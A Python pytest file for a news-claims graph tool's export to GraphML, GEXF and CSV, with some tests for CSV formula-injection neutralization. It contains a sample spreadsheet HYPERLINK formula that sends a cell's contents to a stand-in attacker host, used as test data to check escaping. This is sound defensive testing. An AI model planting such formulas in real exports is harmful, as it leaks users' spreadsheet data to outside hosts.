"""Tests of graph/export.py (GraphML, GEXF, CSV) and of ``newsgraph export``."""
from __future__ import annotations

import csv
import io

import networkx as nx
import pytest

from graph.analysis.export import (
    CSV_COLUMNS,
    EXPORT_FORMATS,
    claim_rows,
    csv_cell,
    gephi_graph,
    save_export,
)
from graph.cli.main import main
from graph.errors import OptionError, OutputError
from graph.rdf.triples import add_extraction, new_dataset, serialize_dataset
from graph.types import (
    Actor,
    Article,
    Claim,
    Event,
    Evidence,
    Extraction,
    Figure,
    Software,
)

#: The software stamped on hand-made extractions (no model ran).
SOFTWARE = Software("0.0.test", "hand_made", "0")

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _node(g, node, label, type_, side=None, aliases=()):
    g.add_node(node, label=label, type=type_, side=side, role=None, n_said=0, n_about=0, aliases=aliases)


@pytest.fixture
def g() -> nx.MultiDiGraph:
    g = nx.MultiDiGraph()
    _node(g, "mod", "Russian Defense Ministry", "organization", "Russia", aliases=("MoD", "the ministry"))
    _node(g, "girkin", FORMULA, "person")
    _node(g, "strike", "strike on Makiivka", "event")
    _node(g, "mentioned", "Donetsk", "organization")
    base = {"article": "a1", "title": "Moscow confirms 63 deaths", "outlet": "CNN", "date": "2023-01-02",
            "url": "https://example.org/a1", "begin": 10, "end": 70, "extractor": "figures.v1",
            "narrator": False, "channel": None, "text": None, "target": None}
    g.add_edge("mod", "strike", key="c1", claim="c1", kind="figure", label="63 killed", quantity="killed",
               low=63, high=63, approx=False, figure_text="63", conflicts=("c9", "c8"),
               sentence="The ministry said 63 were killed.", **base)
    g.add_edge("girkin", "mod", key="c2", claim="c2", kind="criticism", label="criticized",
               sentence="-He criticized the ministry.", conflicts=(),
               **{**base, "target": "the ministry", "extractor": "criticism.v1"})
    g.add_edge("girkin", "strike", key="c3", claim="c3", kind="quote", label="quoted",
               sentence="He said it was destroyed.", conflicts=(),
               **{**base, "text": "destroyed", "channel": "Telegram", "extractor": "quotes.v1"})
    g.add_edge("girkin", "mod", key="affiliation girkin mod", kind="affiliation", label="affiliated with",
               claim=None)
    g.nodes["mod"].update(n_said=1, n_about=1)
    g.nodes["girkin"]["n_said"] = 2
    g.nodes["strike"]["n_about"] = 2
    return g


# --- pure conversions ------------------------------------------------------------------


def test_gephi_graph_attributes_fit_the_formats(g):
    out = gephi_graph(g)
    assert "mentioned" not in out
    mod = out.nodes["mod"]
    assert mod == {"label": "Russian Defense Ministry", "type": "organization", "side": "Russia",
                   "n_said": 1, "n_about": 1, "aliases": "MoD; the ministry", "weight": 2}
    figure = out.edges["mod", "strike", "c1"]
    assert (figure["low"], figure["high"]) == (63.0, 63.0)
    assert isinstance(figure["low"], float)
    assert (figure["sentence_begin"], figure["sentence_end"], figure["conflicts"]) == (10, 70, 2)
    assert "begin" not in figure and "end" not in figure and "channel" not in figure
    assert out.number_of_edges() == 4


def test_gephi_graph_can_keep_unlinked_actors(g):
    assert "mentioned" in gephi_graph(g, include_unlinked=True)


def test_claim_rows_one_per_claim(g):
    rows = list(claim_rows(g))
    assert [r["claim"] for r in rows] == ["c1", "c2", "c3"]
    assert all(set(r) == set(CSV_COLUMNS) for r in rows)
    figure, criticism, quote = rows
    assert (figure["source"], figure["target"], figure["event"], figure["low"]) == (
        "Russian Defense Ministry", "strike on Makiivka", "strike on Makiivka", 63)
    assert figure["conflicts"] == "c9 c8"
    assert (criticism["target"], criticism["target_type"], criticism["criticized"], criticism["event"]) == (
        "Russian Defense Ministry", "organization", "the ministry", None)
    assert (quote["quote"], quote["channel"], quote["criticized"]) == ("destroyed", "Telegram", None)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (True, "true"),
        (False, "false"),
        (63, "63"),
        (63.0, "63"),
        (2.5, "2.5"),
        (-3, "-3"),
        ("plain text", "plain text"),
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("a=b", "a=b"),
    ],
)
def test_csv_cell_neutralizes_formulas(value, cell):
    assert csv_cell(value) == cell


# --- files -----------------------------------------------------------------------------


def test_graphml_round_trip(g, tmp_path):
    path = tmp_path / "actors.graphml"
    save_export(g, path, fmt="graphml")
    back = nx.read_graphml(path, force_multigraph=True)
    assert set(back.nodes) == {"mod", "girkin", "strike"}
    assert set(k for *_, k in back.edges(keys=True)) == {"c1", "c2", "c3", "affiliation girkin mod"}
    assert back.nodes["mod"]["weight"] == 2
    assert back.edges["mod", "strike", "c1"]["low"] == 63.0


def test_gexf_round_trip_is_static(g, tmp_path):
    path = tmp_path / "actors.gexf"
    save_export(g, path, fmt="gexf")
    text = path.read_text(encoding="utf-8")
    assert 'mode="static"' in text and "dynamic" not in text
    back = nx.read_gexf(path)
    assert back.number_of_nodes() == 3 and back.number_of_edges() == 4
    assert back.nodes["mod"]["label"] == "Russian Defense Ministry"


def test_csv_file_reads_back_and_is_formula_safe(g, tmp_path):
    path = tmp_path / "claims.csv"
    save_export(g, path, fmt="csv")
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert [r["kind"] for r in rows] == ["figure", "criticism", "quote"]
    assert rows[1]["source"] == "'" + FORMULA
    assert rows[1]["sentence"] == "'-He criticized the ministry."
    assert rows[0]["low"] == "63" and rows[0]["approx"] == "false"


def test_save_export_rejects_unknown_format(g, tmp_path):
    with pytest.raises(OptionError, match="graphml, gexf, csv"):
        save_export(g, tmp_path / "x", fmt="dot")


def test_save_export_reports_unwritable_path(g, tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("", encoding="utf-8")
    with pytest.raises(OutputError, match="cannot write"):
        save_export(g, blocker / "claims.csv", fmt="csv")
    assert list(tmp_path.iterdir()) == [blocker]  # no temporary file left behind


# --- newsgraph export ----------------------------------------------------------------


@pytest.fixture(scope="module")
def trig(tmp_path_factory):
    """A one-article graph.trig from a hand-written extraction (no spaCy)."""
    mod = Actor("Russian Defense Ministry", "organization", side="Russia")
    girkin = Actor("Igor Girkin", "person", side="Russia")
    strike = Event("strike on Makiivka", "strike", place="Makiivka")
    text = "The Russian Defense Ministry said 63 were killed. Igor Girkin criticized the command."
    article = Article("a1", text, title="Moscow confirms 63 deaths", outlet="CNN")
    claims = (
        Claim("figure", "a1", mod, Evidence("a1", 0, 49, text[:49]), "figures.v1",
              figure=Figure("killed", 63, 63, text="63"), event=strike),
        Claim("criticism", "a1", girkin, Evidence("a1", 50, len(text), text[50:]), "criticism.v1",
              target="the command"),
    )
    ds = new_dataset()
    add_extraction(ds, Extraction(article, claims, (mod, girkin, Actor("Donetsk", "organization")),
                                  (strike,), ("figures.v1", "criticism.v1"), software=SOFTWARE))
    path = tmp_path_factory.mktemp("export") / "graph.trig"
    serialize_dataset(ds, str(path), "trig")
    return path


def test_export_help(capsys):
    with pytest.raises(SystemExit) as exc:
        main(["export", "--help"])
    assert exc.value.code == 0
    out = capsys.readouterr().out
    assert "usage: newsgraph export" in out and "graphml" in out and "--include-unlinked" in out


@pytest.mark.parametrize("fmt", EXPORT_FORMATS)
def test_export_writes_each_format(trig, tmp_path, fmt, capsys):
    out = tmp_path / f"out.{fmt}"
    assert main(["export", str(trig), "--format", fmt, "--out", str(out)]) == 0
    assert f"wrote {out} ({fmt}; 2 claims)" in capsys.readouterr().err
    if fmt == "graphml":
        back = nx.read_graphml(out)
        assert sorted(d["label"] for _, d in back.nodes(data=True)) == [
            "Igor Girkin", "Russian Defense Ministry", "strike on Makiivka", "the command"]
    elif fmt == "gexf":
        assert nx.read_gexf(out).number_of_edges() == 2
    else:
        rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
        assert [(r["kind"], r["source"]) for r in rows] == [
            ("figure", "Russian Defense Ministry"), ("criticism", "Igor Girkin")]


def test_export_include_unlinked(trig, tmp_path):
    out = tmp_path / "all.graphml"
    assert main(["export", str(trig), "--format", "graphml", "--out", str(out), "--include-unlinked"]) == 0
    assert "Donetsk" in {d["label"] for _, d in nx.read_graphml(out).nodes(data=True)}


def test_export_to_stdout(trig, capsysbinary):
    assert main(["export", str(trig), "--format", "csv", "--out", "-"]) == 0
    captured = capsysbinary.readouterr()
    assert captured.out.decode("utf-8").startswith(",".join(CSV_COLUMNS))
    assert captured.err == b""


def test_export_needs_a_known_format(trig, capsys):
    with pytest.raises(SystemExit) as exc:
        main(["export", str(trig), "--format", "dot", "--out", "x"])
    assert exc.value.code == 2
    assert "invalid choice" in capsys.readouterr().err


def test_export_missing_input_is_a_clear_error(tmp_path, capsys):
    assert main(["export", str(tmp_path / "nope.trig"), "--format", "csv", "--out", str(tmp_path / "x.csv")]) == 2
    assert "nope.trig" in capsys.readouterr().err
    assert not (tmp_path / "x.csv").exists()
